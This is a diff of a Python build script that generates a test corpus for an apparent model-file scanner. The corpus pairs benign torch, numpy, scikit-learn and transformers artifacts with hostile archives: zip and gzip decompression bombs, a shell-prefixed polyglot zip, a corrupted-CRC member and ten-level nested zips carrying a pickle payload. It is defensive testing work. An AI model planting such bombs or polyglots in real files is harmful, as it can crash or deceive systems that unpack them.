+        "payload member whose CRC-32 does not match",
+        rules=expect(*rules, "WS-ARC-018"),
+    )
+    add(
+        "hostile/zip-prepended-bytes.zip",
+        b"#!/bin/sh\necho wscan\nexit 0\n" + zip_bytes([("payload.pkl", payload)]),
+        "bytes before the first zip header (a polyglot)",
+        rules=expect(*rules, "WS-ARC-008"),
+    )
+    add(
+        "hostile/zip-bomb.zip",
+        zip_bytes([("zeros.bin", bytes(64 * MIB))], zipfile.ZIP_DEFLATED),
+        "decompression bomb: 64 MiB of zeros deflated (ratio ~1000)",
+        rules=expect("WS-ARC-014"),
+    )
+    add(
+        "hostile/gzip-bomb.gz",
+        gz(bytes(50 * MIB)),
+        "decompression bomb: gzip of 50 MiB of zeros",
+        rules=expect("WS-ARC-014"),
+    )
+    nested, name = payload, "payload.pkl"
+    for level in range(10, 0, -1):
+        nested, name = zip_bytes([(name, nested)]), f"level{level}.zip"
+    add(
+        "hostile/zip-nested-10-levels.zip",
+        nested,
+        "zip inside zip, 10 levels deep (beyond the depth budget)",
+        rules=expect("WS-FILE-002"),
+    )
+
+
+# --- benign samples (the real libraries) ----------------------------------------------------------
+
+
+def _scripted_class() -> type:
+    import torch
+
+    class TinyScripted(torch.nn.Module):
+        def __init__(self) -> None:
+            super().__init__()
+            self.weight = torch.nn.Parameter(torch.randn(2, 3))
+
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            return torch.relu(x @ self.weight.t()) * 2
+
+    return TinyScripted
+
+
+def seed_everything() -> None:
+    import numpy as np
+    import torch
+
+    random.seed(SEED)
+    np.random.seed(SEED)
+    torch.manual_seed(SEED)
+
+
+def build_benign(corpus: Corpus) -> None:
+    """Every benign sample, written by the library that normally writes it."""
+    build_benign_torch(corpus)
+    build_benign_numpy(corpus)
+    build_benign_sklearn(corpus)
+    build_benign_pickles(corpus)
+    build_benign_transformers(corpus)
+
+
+def build_benign_torch(corpus: Corpus) -> None:
+    import torch
+
+    seed_everything()
+    state = {
+        "fp32": torch.randn(4, 4),
+        "fp16": torch.randn(4).half(),
+        "bf16": torch.randn(4).bfloat16(),
+        "int8": torch.randint(-128, 127, (8,), dtype=torch.int8),
+        "quantized": torch.quantize_per_tensor(torch.randn(4), 0.1, 0, torch.quint8),
+        "param": torch.nn.Parameter(torch.randn(3)),
+    }
+    path = corpus.record(
+        "benign/torch-state-dict.pt", "torch.save zip: fp32/fp16/bf16/int8, quantized, Parameter", made_by="torch.save"
+    )
+    path.parent.mkdir(parents=True, exist_ok=True)
+    torch.save(state, path)
+
+    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
+    optimizer = torch.optim.Adam(model.parameters(), lr=0.01)
+    scheduler = torch.optim.lr_scheduler.StepLR(optimizer, step_size=1, gamma=0.5)
+    model(torch.randn(2, 4)).sum().backward()
+    optimizer.step()
+    scheduler.step()
+    checkpoint = {
+        "epoch": 1,
+        "model": model.state_dict(),
+        "optimizer": optimizer.state_dict(),
+        "scheduler": scheduler.state_dict(),
+        "metrics": {"loss": 0.5, "history": [1.0, 0.75, 0.5]},
+    }
+    torch.save(
+        checkpoint,
+        corpus.record(
+            "benign/torch-training-checkpoint.pt",
+            "torch.save zip: nested model + optimizer + scheduler state_dicts",
+            made_by="torch.save",
+        ),
+    )
+    legacy = io.BytesIO()
+    torch.save(model.state_dict(), legacy, _use_new_zipfile_serialization=False)
+    corpus.add(
+        "benign/torch-legacy.pt",
+        stable_legacy_keys(legacy.getvalue(), 4),
+        "legacy torch.save(_use_new_zipfile_serialization=False); storage keys renamed 0, 1, ...",
+        made_by="torch.save",
+    )
+    scripted = torch.jit.script(_scripted_class()())
+    torch.jit.save(
+        scripted,
+        corpus.record("benign/torchscript-module.pt", "torch.jit.save of a scripted module", made_by="torch.jit.save"),
+    )
+
+
+def build_benign_numpy(corpus: Corpus) -> None:
+    import joblib
+    import numpy as np
+
+    rng = np.random.default_rng(SEED)
+    arrays = {"weights": rng.normal(size=(8, 4)).astype(np.float32), "ids": np.arange(10, dtype=np.int64)}
+    np.save(
+        corpus.record("benign/numpy-array.npy", "np.save of a float32 array", made_by="numpy.save"), arrays["weights"]
+    )
+    with fixed_zip_clock():
+        np.savez(corpus.record("benign/numpy-savez.npz", "np.savez", made_by="numpy.savez"), **arrays)
+        np.savez_compressed(
+            corpus.record("benign/numpy-savez-compressed.npz", "np.savez_compressed", made_by="numpy.savez_compressed"),
+            **arrays,
+        )
+    data = {"weights": arrays["weights"], "ids": arrays["ids"], "scale": 0.5, "names": ["a", "b"]}
+    for suffix, compress in [
+        ("", 0),
+        ("-zlib3", 3),
+        ("-gzip", ("gzip", 3)),
+        ("-bz2", ("bz2", 3)),
+        ("-xz", ("xz", 3)),
+        ("-lzma", ("lzma", 3)),
+    ]:
+        rel = f"benign/joblib-numpy{suffix}.joblib"
+        joblib.dump(
+            data,
+            corpus.record(rel, f"joblib.dump of numpy data, compress={compress!r}", made_by="joblib.dump"),
+            compress=compress,
+        )
+
+
+def build_benign_sklearn(corpus: Corpus) -> None:
+    import joblib
+    import numpy as np
+    from sklearn.ensemble import RandomForestClassifier
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.pipeline import Pipeline
+    from sklearn.preprocessing import StandardScaler
+
+    rng = np.random.default_rng(SEED)
+    x = rng.normal(size=(30, 3))
+    y = (x[:, 0] + x[:, 1] > 0).astype(int)
+    pipeline = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(x, y)
+    joblib.dump(
+        pipeline,
+        corpus.record(
+            "benign/sklearn-pipeline.joblib",
+            "scikit-learn Pipeline(StandardScaler, LogisticRegression) via joblib",
+            made_by="joblib.dump",
+        ),
+    )
+    corpus.add(
+        "benign/sklearn-pipeline.pkl",
+        pickle.dumps(pipeline, protocol=pickle.DEFAULT_PROTOCOL),
+        "the same pipeline via pickle.dumps",
+        made_by="pickle.dumps",
+    )
+    forest = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=SEED).fit(x, y)
+    joblib.dump(
+        forest,
+        corpus.record(
+            "benign/sklearn-random-forest.joblib",
+            "scikit-learn RandomForestClassifier via joblib",
+            made_by="joblib.dump",
+        ),
+    )
+
+
+def build_benign_pickles(corpus: Corpus) -> None:
+    data = {
+        "list": [1, 2, 3],
+        "tuple": (1.5, "x", None, True),
+        "set": {1, 2, 3},
+        "frozenset": frozenset({4, 5}),
+        "str": "text é",
+        "bytes": b"\x00\x01\xff",
+        "bytearray": bytearray(b"ab"),
+        "float": 1.25,
+        "int": 2**70,
+        "negative": -7,
+        "ordered": OrderedDict([("b", 1), ("a", 2)]),
+        "nested": {"a": [{"b": (1, 2)}]},
+    }
+    for proto in range(6):
+        rel = f"benign/plain-pickle-protocol{proto}.pkl"
+        corpus.add(
+            rel,
+            pickle.dumps(data, protocol=proto),
+            f"pickle.dumps of plain data, protocol {proto}",
+            made_by="pickle.dumps",
+        )
+
+
+def build_benign_transformers(corpus: Corpus) -> None:
+    import numpy as np
+    import torch
+    from transformers import BertConfig, BertModel, TrainingArguments, get_linear_schedule_with_warmup
+
+    seed_everything()
+    config = BertConfig(
+        vocab_size=50,
+        hidden_size=8,
+        num_hidden_layers=1,
+        num_attention_heads=2,
+        intermediate_size=16,
+        max_position_embeddings=16,
+    )
+    model = BertModel(config)
+    folder = corpus.out / "benign/bert-tiny"
+    model.save_pretrained(folder, safe_serialization=False)
+    for child in sorted(folder.iterdir()):
+        corpus.record(
+            f"benign/bert-tiny/{child.name}",
+            "transformers save_pretrained(safe_serialization=False)",
+            made_by="transformers.PreTrainedModel.save_pretrained",
+        )
+
+    ckpt = corpus.out / "benign/checkpoint-1"
+    ckpt.mkdir(parents=True, exist_ok=True)
+    args = TrainingArguments(output_dir="checkpoint-out", report_to=[], logging_dir="checkpoint-out/runs", seed=SEED)
+    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-3)
+    scheduler = get_linear_schedule_with_warmup(optimizer, num_warmup_steps=1, num_training_steps=10)
+    out = model(input_ids=torch.tensor([[1, 2, 3]]))
+    out.last_hidden_state.sum().backward()
+    optimizer.step()
+    scheduler.step()
+    what = "Trainer checkpoint folder (files as transformers.Trainer writes them)"
+    torch.save(
+        args,
+        corpus.record(
+            "benign/checkpoint-1/training_args.bin",
+            f"{what}: TrainingArguments",
+            made_by="torch.save(TrainingArguments)",
+        ),
+    )
+    torch.save(
+        optimizer.state_dict(),
+        corpus.record("benign/checkpoint-1/optimizer.pt", f"{what}: AdamW state", made_by="torch.save"),
+    )
+    torch.save(
+        scheduler.state_dict(),
+        corpus.record("benign/checkpoint-1/scheduler.pt", f"{what}: LambdaLR state", made_by="torch.save"),
+    )
+    rng_states = {"python": random.getstate(), "numpy": np.random.get_state(), "cpu": torch.random.get_rng_state()}
+    torch.save(
+        rng_states, corpus.record("benign/checkpoint-1/rng_state.pth", f"{what}: RNG states", made_by="torch.save")
+    )
+
+
+# --- main -----------------------------------------------------------------------------------------
+
+
+def build(out: Path, payload: Payload | None = None, benign: bool = True, hostile: bool = True) -> list[Sample]:
+    """Write the corpus under `out` (replacing its benign/ and hostile/ folders) and its manifest."""
+    out.mkdir(parents=True, exist_ok=True)
+    for folder in ("benign", "hostile"):
+        if (out / folder).exists():
+            shutil.rmtree(out / folder)
+    corpus = Corpus(out)
+    if hostile:
+        build_hostile(corpus, payload or Payload())
+    if benign:
+        build_benign(corpus)
+    corpus.samples.sort(key=lambda s: s.path)
+    manifest = {
+        "about": "wscan sample corpus; regenerate with `python corpus/build.py`. Paths are relative to this file.",
+        "rules": "a hostile sample must get every listed rule ID, at `member` (a chain a!b!c) when it is not null",
+        "samples": [s.as_json() for s in corpus.samples],
+    }
+    (out / "MANIFEST.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
+    return corpus.samples
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--out", type=Path, default=Path(__file__).resolve().parent, help="corpus folder")
+    args = parser.parse_args(argv)
+    samples = build(args.out)
+    total = sum((args.out / s.path).stat().st_size for s in samples)
+    print(f"wrote {len(samples)} samples ({total / MIB:.2f} MiB) under {args.out}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
